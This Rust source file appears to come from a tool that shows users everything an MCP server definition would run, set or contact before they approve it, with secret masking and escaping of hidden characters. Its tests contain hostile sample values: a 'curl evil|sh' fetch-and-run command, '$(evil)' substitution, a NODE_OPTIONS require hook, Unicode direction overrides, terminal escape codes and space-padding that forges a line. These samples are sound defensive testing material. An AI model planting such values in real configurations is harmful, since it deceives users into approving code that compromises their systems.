//! What the user sees before they allow something: everything that would be executed, with nothing hidden.
//! Values of variables and headers are shown unless they look like a secret and can be nothing else.

mod difference;

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use switchboard_wire::visible::{is_hidden, visible};

use super::JudgedSettings;
use super::warnings::warnings;
pub use crate::definition::shown_url;
use crate::definition::{Definition, Launch, LaunchCommand, Transport, shown_whole_url};
use crate::expand::Template;
use crate::mask::{MASK, masked_for_consent, masked_in_env_file, masked_words, name_is_executable};
use crate::own_limits::OwnLimits;
use difference::difference;

/// What is known of a definition when the user is asked about it.
#[derive(Debug, Clone, Copy)]
pub struct View<'a> {
    pub definition: &'a Definition,
    /// What would be executed.
    pub launch: &'a Launch,
    /// The limits on its tools that come with it.
    pub limits: &'a OwnLimits,
    /// The program that was found for it, or why none was.
    pub program: Option<Result<&'a Path, &'a str>>,
    /// The version that was allowed last.
    pub before: Option<&'a Launch>,
    /// The workspace.
    pub root: &'a Path,
    /// Masks what looks like a secret in the command: for display only. A user who is asked to decide sees
    /// all of it.
    pub is_masked: bool,
    /// Which values of variables and headers are shown.
    pub values: ShownValues,
    /// Where the values that it would be given come from.
    pub given: &'a ValueSources,
    /// Files of the workspace that it would run or read, as `project_files` finds them.
    pub project_files: &'a [PathBuf],
    /// What the project's settings of it forbid.
    pub settings: &'a JudgedSettings,
}

/// Which values of variables and headers are shown; of the others, only the names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ShownValues {
    None,
    /// Values that the definition sets. Of an env file, whose values may be the user's own, only variables
    /// that by their names are executed, read or contacted: for a host, which stores what it receives.
    Definition,
    /// Those of an env file, too: for the user's own terminal.
    All,
}

/// The source of each `${NAME}`, as far as it is known.
pub type ValueSources = BTreeMap<String, ValueSource>;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValueSource {
    /// Stored by `switchboard secret set`.
    Secret,
    /// From an env file of the user's own.
    EnvFile,
    /// From the login shell.
    Shell,
    Nowhere,
}

impl View<'_> {
    /// The view, line by line.
    pub fn lines(&self) -> Vec<String> {
        let (name, file) = (&self.definition.name, self.definition.file.display().to_string());
        let first = format!("{}  ({})", escape_line(name), escape_line(&file));
        let facts = self.facts();
        // On a long view, the command may have scrolled off the screen before the question.
        let length = facts.iter().map(|(what, text)| what.len() + text.len() + 12).sum::<usize>();
        let is_long = length > MAX_SCREEN_BYTES || facts.len() > ROWS;
        let again = facts.first().filter(|_| is_long).map(|(what, text)| {
            let begin: String = text.chars().take(REPEATED_CHARS).collect();
            ("warning", format!("this is long, look at all of it; `{}` {what} {begin} …", escape_line(name)))
        });
        let facts = facts.iter().cloned().chain(again).map(|(what, text)| format!("  {what:9} {text}"));
        std::iter::once(first).chain(facts).collect()
    }

    /// The facts, each with its label.
    pub fn facts(&self) -> Vec<(&'static str, String)> {
        let mut all = Vec::new();
        let how = ViewStyle {
            line: if self.is_masked { masked_line } else { command_line },
            is_masked: self.is_masked,
            values: self.values,
        };
        for (what, text) in facts(self.launch, self.given, how) {
            all.push((what, text));
            if what == "runs" {
                match self.program {
                    Some(Ok(program)) => all.push(("program", program.display().to_string())),
                    Some(Err(why)) => all.push(("program", why.to_owned())),
                    None => {}
                }
            }
        }
        if !self.limits.is_open() {
            all.push(("tools", self.limits.to_string()));
        }
        let secrets = placeholders(self.launch)
            .into_iter()
            .filter(|name| self.given.get(name) == Some(&ValueSource::Secret));
        all.extend(secrets.map(|name| ("warning", format!("gets your secret {name}"))));
        let program = self.program.and_then(Result::ok);
        all.extend(self.settings.wanted.lines().into_iter().map(|line| ("settings", line)));
        all.extend(self.project_files.iter().map(|file| ("project", project_file(file, self.root))));
        all.extend(warnings(self.launch, program, self.root).into_iter().map(|warning| ("warning", warning)));
        if let Some(before) = self.before {
            all.extend(difference(before, self.launch, how).into_iter().map(|line| ("changed", line)));
            if let (Some(was), Some(is)) = (before.allowed_program(), program)
                && was != is
            {
                all.push(("changed", format!("program: {} → {}", was.display(), is.display())));
            }
            if *self.limits != self.definition.limits {
                all.push(("changed", format!("tools: {} → {}", self.definition.limits, self.limits)));
            }
        }
        if self.before.is_some() {
            all.extend(
                self.settings.changes().into_iter().map(|line| ("changed", format!("setting {line}"))),
            );
        }
        // Escaped at the end, wherever the text comes from.
        all.into_iter().map(|(what, text)| (what, escape_line(&text))).collect()
    }
}

/// Makes hidden characters and runs of spaces visible. Many spaces could push the rest of a line off the
/// screen, or imitate another line below it.
fn escape_line(text: &str) -> String {
    let text = visible(text);
    if !text.contains("  ") {
        return text.into_owned();
    }
    let mut shown = String::with_capacity(text.len());
    let mut spaces = 0;
    for c in text.chars().chain(std::iter::once('\n')) {
        match (c, spaces) {
            (' ', _) => {
                spaces += 1;
                continue;
            }
            (_, 0) => {}
            (_, 1) => shown.push(' '),
            (_, many) => shown.push_str(&format!("␠×{many}")),
        }
        spaces = 0;
        shown.push(c);
    }
    shown.pop();
    shown
}

/// Limits in bytes and lines; a longer view may scroll off the screen.
const MAX_SCREEN_BYTES: usize = 1200;
const ROWS: usize = 12;

/// How much of the command is repeated.
const REPEATED_CHARS: usize = 150;

/// How commands and values are written.
#[derive(Clone, Copy)]
struct ViewStyle {
    line: CommandFormatter,
    is_masked: bool,
    values: ShownValues,
}

impl ViewStyle {
    fn shows(self) -> bool {
        self.values != ShownValues::None
    }

    /// Whether the value of this env file variable is shown.
    fn shows_of_file(self, name: &str) -> bool {
        match self.values {
            ShownValues::None => false,
            ShownValues::Definition => name_is_executable(name),
            ShownValues::All => true,
        }
    }

    fn url(self, url: &Template) -> String {
        if self.shows() { shown_whole_url(url) } else { shown_url(url) }
    }
}

/// How a command is written.
type CommandFormatter = fn(&LaunchCommand) -> String;

/// The command line, quoted so that it is clear where each argument ends.
pub fn command_line(launch: &LaunchCommand) -> String {
    let words = std::iter::once(&launch.cmd).chain(&launch.args);
    words.map(|word| quoted(&word.to_string())).collect::<Vec<_>>().join(" ")
}

/// The command line without what looks like a secret.
fn masked_line(launch: &LaunchCommand) -> String {
    let words: Vec<String> =
        std::iter::once(&launch.cmd).chain(&launch.args).map(ToString::to_string).collect();
    masked_words(&words).iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
}

/// What would be executed or contacted, in short form, without what looks like a secret.
pub fn mentioned(launch: &Launch) -> String {
    match launch {
        Launch::Process(launch) => masked_line(launch),
        Launch::Remote(remote) => shown_url(&remote.url),
    }
}

fn placeholders(launch: &Launch) -> std::collections::BTreeSet<String> {
    match launch {
        Launch::Process(launch) => launch.placeholders(),
        Launch::Remote(remote) => remote.placeholders(),
    }
}

/// The facts of a launch, each with its label.
fn facts(launch: &Launch, given: &ValueSources, how: ViewStyle) -> Vec<(&'static str, String)> {
    let mut facts = Vec::new();
    let add = |facts: &mut Vec<_>, what, names: Vec<String>| {
        if !names.is_empty() {
            facts.push((what, names.join(", ")));
        }
    };
    match launch {
        Launch::Process(launch) => {
            facts.push(("runs", (how.line)(launch)));
            facts.push(("in", launch.shown_directory()));
            let sets = launch.env.iter().filter_map(|(name, value)| Some((name, value.as_ref()?)));
            if how.shows() {
                facts.extend(sets.map(|(name, value)| ("sets", set(name, value))));
            } else {
                add(&mut facts, "sets", sets.map(|(name, _)| name.clone()).collect());
            }
            let unsets = launch.env.iter().filter(|(_, value)| value.is_none());
            add(&mut facts, "unsets", unsets.map(|(name, _)| name.clone()).collect());
            let path = launch.env_file_path.iter().map(|path| path.display().to_string());
            let (shown, named): (Vec<_>, Vec<_>) =
                launch.env_file.iter().partition(|(name, _)| how.shows_of_file(name));
            add(&mut facts, "env file", path.chain(named.iter().map(|(name, _)| (*name).clone())).collect());
            facts.extend(shown.iter().map(|(name, value)| ("env file", set_in_file(name, value))));
        }
        Launch::Remote(remote) => {
            let kind = if remote.transport == Transport::Sse { "sse" } else { "http" };
            facts.push(("reaches", format!("{} ({kind})", how.url(&remote.url))));
            if how.shows() {
                facts.extend(remote.headers.iter().map(|(name, value)| ("header", header(name, value))));
            } else {
                add(&mut facts, "headers", remote.headers.keys().cloned().collect());
            }
        }
    }
    let one = |name: String| match given.get(&name) {
        Some(ValueSource::Secret) => format!("your secret {name}"),
        Some(ValueSource::EnvFile) => format!("{name} of your env file"),
        Some(ValueSource::Shell) => format!("{name} of your environment"),
        Some(ValueSource::Nowhere) => format!("{name} (not set)"),
        None => name,
    };
    add(&mut facts, "gets", placeholders(launch).into_iter().map(one).collect());
    facts
}

/// A file of the workspace. The path is allowed, its content is not: it is read anew at every start.
fn project_file(file: &Path, root: &Path) -> String {
    let shown = file.strip_prefix(root).unwrap_or(file).display();
    format!("{shown} is a file of this project: you approve the path, not the contents")
}

/// `NAME=value`.
fn set(name: &str, value: &Template) -> String {
    format!("{name}={}", shown_value(name, value))
}

/// `NAME=value` from an env file.
fn set_in_file(name: &str, value: &str) -> String {
    format!("{name}={}", shown_in_file(name, value))
}

/// `name: value`.
fn header(name: &str, value: &Template) -> String {
    format!("{name}: {}", shown_value(name, value))
}

fn shown_value(name: &str, value: &Template) -> String {
    with_length(masked_for_consent(name, value), &value.to_string(), value.literal())
}

fn shown_in_file(name: &str, value: &str) -> String {
    with_length(masked_in_env_file(name, value), value, Some(value))
}

/// The value as shown, or its length if it is masked completely. A value shown in full is quoted, so that it
/// cannot imitate a mask.
fn with_length(shown: String, written: &str, literal: Option<&str>) -> String {
    match literal {
        _ if shown == written => quoted(&shown),
        Some(text) if shown == MASK => {
            let length = text.chars().count();
            format!("{MASK} ({length} character{})", if length == 1 { "" } else { "s" })
        }
        _ => shown,
    }
}

/// Quotes a word like a shell, so that words can be distinguished; for reading only.
fn quoted(word: &str) -> String {
    // Some letters are invisible.
    let plain = |c: char| (c.is_alphanumeric() && !is_hidden(c)) || "-_=+:,./@%^~".contains(c);
    if !word.is_empty() && word.chars().all(plain) {
        return word.to_owned();
    }
    format!("'{}'", visible(&word.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::definition::Remote;

    fn process_launch(argv: &[&str], env: &[(&str, &str)]) -> Launch {
        Launch::Process(LaunchCommand {
            cmd: Template::text(argv[0]),
            args: argv[1..].iter().map(|arg| Template::text(*arg)).collect(),
            env: env.iter().map(|(name, value)| ((*name).to_owned(), Some(Template::text(*value)))).collect(),
            cwd: Template::text("/w"),
            base: "/".into(),
            ..LaunchCommand::default()
        })
    }

    /// The lines that the user is shown about a new definition.
    fn lines(name: &str, launch: &Launch, program: Option<Result<&Path, &str>>) -> Vec<String> {
        let definition = Definition {
            name: name.to_owned(),
            description: None,
            launch: Ok(launch.clone()),
            timeout: None,
            file: "/w/.mcp.json".into(),
            at: None,
            unclear_in: None,
            limits: Default::default(),
        };
        let view = View {
            definition: &definition,
            limits: &definition.limits,
            launch,
            program,
            before: None,
            root: Path::new("/w"),
            is_masked: false,
            values: ShownValues::All,
            given: &ValueSources::new(),
            project_files: &[],
            settings: &JudgedSettings::default(),
        };
        view.lines()
    }

    fn shown(launch: &Launch, before: Option<&Launch>) -> String {
        let definition = Definition {
            name: "x".to_owned(),
            description: Some("never shown".to_owned()),
            launch: Ok(launch.clone()),
            timeout: None,
            file: "/w/.mcp.json".into(),
            at: None,
            unclear_in: None,
            limits: Default::default(),
        };
        let program = Some(Ok(Path::new(if before.is_some() { "/w/x" } else { "/bin/x" })));
        let given = ValueSources::from([("GITHUB_TOKEN".to_owned(), ValueSource::Secret)]);
        let view = View {
            definition: &definition,
            limits: &definition.limits,
            launch,
            program,
            before,
            root: Path::new("/w"),
            is_masked: false,
            values: ShownValues::All,
            given: &given,
            project_files: &["/w/tools/x.py".into()],
            settings: &JudgedSettings::default(),
        };
        view.lines().join("\n")
    }

    #[test]
    fn the_whole_command_is_shown_without_secrets() {
        let env = [("TOKEN", "s3cret"), ("NODE_OPTIONS", "--require ./hook.js")];
        let launch = process_launch(&["x", "", "a b", "it's", "\u{202e}evil"], &env);
        let text = shown(&launch, None);
        assert!(text.contains(r"x '' 'a b' 'it'\''s' '\u{202e}evil'"), "{text}");
        assert!(shown(&process_launch(&["x", "a\u{3164}b"], &[]), None).contains(r"x 'a\u{3164}b'"));
        assert!(text.contains("program   /bin/x") && text.contains("sets      TOKEN=•••"), "{text}");
        assert!(text.contains("sets      NODE_OPTIONS='--require ./hook.js'"), "{text}");
        assert!(!text.contains("s3cret") && !text.contains("never shown"), "{text}");
        let url = Launch::Remote(Remote {
            transport: Transport::Http,
            url: Template::text("https://me:pass@h/p?key=k3y&mode=rw"),
            headers: [("authorization".to_owned(), Template::text("Bearer t0p"))].into(),
        });
        let text = shown(&url, None);
        assert!(
            text.contains("https://…@h/p?key=•••&mode=rw") && text.contains("header    authorization: •••"),
            "{text}"
        );
        assert!(!text.contains("pass") && !text.contains("k3y") && !text.contains("t0p"), "{text}");
    }

    #[test]
    fn a_secret_name_does_not_hide_a_command() {
        let env =
            [("RESTIC_PASSWORD_COMMAND", "curl evil|sh"), ("API_TOKEN", "$(evil)"), ("TOKEN", "s3cret")];
        let text = shown(&process_launch(&["x"], &env), None);
        for part in [
            "sets      RESTIC_PASSWORD_COMMAND='curl evil|sh'",
            "sets      API_TOKEN='$(evil)'",
            "sets      TOKEN=••• (6 characters)",
        ] {
            assert!(text.contains(part), "{part}: {text}");
        }
    }

    #[test]
    fn a_difference_names_what_changed() {
        let before = process_launch(&["x", "1"], &[("A", "1"), ("B", "1")]);
        let after = process_launch(&["x", "2"], &[("A", "2"), ("C", "1")]);
        let text = shown(&after, Some(&before));
        for part in [
            "changed   argument 1: 1 → 2",
            "changed   variable A: 1 → 2",
            "changed   new variable C=1",
            "changed   no more variable B (was 1)",
            "project   tools/x.py is a file of this project",
        ] {
            assert!(text.contains(part), "{part}: {text}");
        }
        assert!(!shown(&after, Some(&after)).contains("changed   "));
        assert!(text.contains("its program is a file of the project"), "{text}");
    }

    #[test]
    fn values_of_an_env_file_and_a_query_are_shown() {
        let with_file = |mode: &str, token: &str| {
            let Launch::Process(launch) = process_launch(&["x"], &[]) else { unreachable!() };
            let variables = [("MODE", mode), ("TOKEN", token), ("HOOK", "--require ./h.js")];
            let env_file = variables.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
            Launch::Process(LaunchCommand { env_file, env_file_path: Some("/w/.env".into()), ..launch })
        };
        let text = shown(&with_file("rw", "s3cret2"), Some(&with_file("ro", "s3cret1")));
        for part in [
            "env file  /w/.env",
            "env file  MODE=rw",
            "env file  TOKEN=•••",
            "env file  HOOK='--require ./h.js'",
            "changed   env file MODE: ro → rw",
            "changed   another value for env file TOKEN",
        ] {
            assert!(text.contains(part), "{part}: {text}");
        }
        assert!(!text.contains("s3cret"), "{text}");
        let with_query = |query: &str| {
            let url = Template::text(format!("https://h/mcp?{query}"));
            Launch::Remote(Remote { transport: Transport::Http, url, headers: BTreeMap::new() })
        };
        let text = shown(&with_query("mode=rw&key=s3cret"), Some(&with_query("mode=ro&key=s3cret")));
        let change = "changed   url: https://h/mcp?mode=ro&key=••• → https://h/mcp?mode=rw&key=•••";
        assert!(text.contains(change) && !text.contains("s3cret"), "{text}");
    }

    #[test]
    fn a_host_does_not_see_the_values_of_an_env_file() {
        let variables = [
            ("PIN", "seven words that open my wallet"),
            ("NODE_OPTIONS", "--require ./h.js"),
            ("HOOK_URL", "https://hooks.example/services/T0/B0/a1b2c3d4e5f6g7h8?token=hunter2"),
            ("PLAIN", "a1b2c3d4e5f6g7h8i9"),
        ];
        let Launch::Process(launch) = process_launch(&["x"], &[("SET", "1")]) else { unreachable!() };
        let env_file = variables.map(|(name, value)| (name.to_owned(), value.to_owned())).into();
        let launch =
            Launch::Process(LaunchCommand { env_file, env_file_path: Some("/w/.env".into()), ..launch });
        let told = |values: ShownValues| {
            let how = ViewStyle { line: command_line, is_masked: false, values };
            facts(&launch, &ValueSources::new(), how)
                .into_iter()
                .map(|(_, text)| text)
                .collect::<Vec<_>>()
                .join("\n")
        };
        let (host, terminal) = (told(ShownValues::Definition), told(ShownValues::All));
        for text in [&host, &terminal] {
            for part in ["SET=1", "NODE_OPTIONS='--require ./h.js'", "HOOK_URL=https://hooks.example/"] {
                assert!(text.contains(part), "{part}: {text}");
            }
            assert!(!text.contains("a1b2c3") && !text.contains("hunter2"), "{text}");
        }
        assert!(host.contains("/w/.env, PIN, PLAIN") && !host.contains("wallet"), "{host}");
        assert!(terminal.contains("PIN='seven words") && terminal.contains("PLAIN=••• (18 "), "{terminal}");
    }

    #[test]
    fn a_secret_that_would_be_given_is_named() {
        let Launch::Process(mut given) = process_launch(&["x"], &[]) else { unreachable!() };
        let token = Template::parse("${GITHUB_TOKEN}", &crate::expand::ExpansionContext::default()).unwrap();
        given.env.insert("NOTES_TOKEN".to_owned(), Some(token));
        let text = shown(&Launch::Process(given), None);
        for part in [
            "sets      NOTES_TOKEN='${GITHUB_TOKEN}'",
            "gets      your secret GITHUB_TOKEN",
            "warning   gets your secret GITHUB_TOKEN",
        ] {
            assert!(text.contains(part), "{part}: {text}");
        }
    }

    #[test]
    fn spaces_and_length_push_nothing_off_the_screen() {
        let forged = format!("{}github  runs npx harmless", " ".repeat(3200));
        let many: Vec<(String, &str)> = (0..3000).map(|at| (format!("V{at}"), "x")).collect();
        let many: Vec<(&str, &str)> = many.iter().map(|(name, value)| (name.as_str(), *value)).collect();
        let long = "y".repeat(5000);
        for launch in [
            process_launch(&["npx", "evil", &forged], &[]),
            process_launch(&["npx", "evil", &long], &[]),
            process_launch(&["npx", "evil"], &many),
            process_launch(&["npx", "evil"], &many[..45]),
        ] {
            let lines = lines("github", &launch, None);
            let text = lines.join("\n");
            assert!(lines[1..].iter().all(|line| !line[12..].contains("  ")), "{text}");
            assert!(text.contains("npx evil"), "{text}");
            if text.len() > 4000 || lines.len() > 40 {
                let last = lines.last().unwrap();
                assert!(last.contains("look at all of it; `github` runs npx evil"), "{last}");
                assert!(last.len() < 300, "{last}");
            }
        }
    }

    #[test]
    fn control_characters_are_escaped_in_a_view() {
        let launch = process_launch(&["x"], &[("A\x1b[2J", "\u{9b}2J")]);
        let text = lines("x", &launch, Some(Err("`\x1b[2J\nallow` was not found"))).join("\n");
        assert!(!text.contains(|c| is_hidden(c) && c != '\n'), "{text:?}");
        assert!(text.contains(r"program   `\u{1b}[2J\u{a}allow` was not found"), "{text}");
    }
}
